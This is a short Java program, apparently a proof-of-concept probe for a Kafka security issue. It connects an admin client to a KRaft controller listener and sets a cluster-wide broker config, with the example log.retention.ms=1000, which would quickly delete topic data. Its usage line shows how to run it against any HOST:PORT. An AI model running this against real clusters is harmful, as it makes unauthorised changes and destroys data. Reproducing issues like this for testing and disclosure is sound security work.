// An admin client against a KRaft controller listener (KIP-919 bootstrap.controllers), as an
// attacker would use it: sets a cluster-wide default broker config (log.retention.ms=1000 in
// the issue). Run as a single-file program with the broker's jars on the class path:
//   java -cp '<kafka lib>/*' ControllerProbe.java HOST:PORT NAME=VALUE [client.setting=value ...]
// Prints ACCEPTED and exits 0 if the controller took it; any failure exits non-zero.
import java.util.List;
import java.util.Map;
import java.util.Properties;
import org.apache.kafka.clients.admin.Admin;
import org.apache.kafka.clients.admin.AlterConfigOp;
import org.apache.kafka.clients.admin.ConfigEntry;
import org.apache.kafka.common.config.ConfigResource;

public class ControllerProbe {
  public static void main(String[] args) throws Exception {
    Properties props = new Properties();
    props.put("bootstrap.controllers", args[0]);
    props.put("request.timeout.ms", "8000");
    props.put("default.api.timeout.ms", "15000");
    String[] config = args[1].split("=", 2);
    for (int i = 2; i < args.length; i++) {
      String[] kv = args[i].split("=", 2);
      props.put(kv[0], kv[1]);
    }
    try (Admin admin = Admin.create(props)) {
      ConfigResource cluster = new ConfigResource(ConfigResource.Type.BROKER, "");
      AlterConfigOp set = new AlterConfigOp(
          new ConfigEntry(config[0], config[1]), AlterConfigOp.OpType.SET);
      admin.incrementalAlterConfigs(Map.of(cluster, List.of(set))).all().get();
      System.out.println("ACCEPTED");
    }
  }
}
